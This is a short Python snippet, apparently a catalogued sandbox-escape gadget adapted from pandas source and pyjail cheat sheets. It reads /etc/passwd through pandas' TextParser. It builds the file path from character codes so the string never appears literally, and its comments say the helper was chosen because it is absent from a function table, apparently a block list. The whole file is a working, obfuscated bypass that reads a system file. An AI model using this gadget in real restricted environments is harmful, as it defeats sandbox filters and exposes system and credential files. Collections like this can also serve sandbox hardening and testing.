# source: adapted from pandas.io.html / pandas.io.parsers.readers source (TextParser(*args) -> TextFileReader(path, engine="python")); file-read gadgets as in pyjail cheat sheets
# family: file reader reached through a public pandas helper whose path parameter is *args (not in the f-table)
# goal: read /etc/passwd with a path built at run time
import pandas as pd
from pandas.io.html import TextParser

p = "".join(map(chr, [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]))
pd.set_option("display.width", 200)
print(TextParser(p, sep=":", header=None).read().to_string())
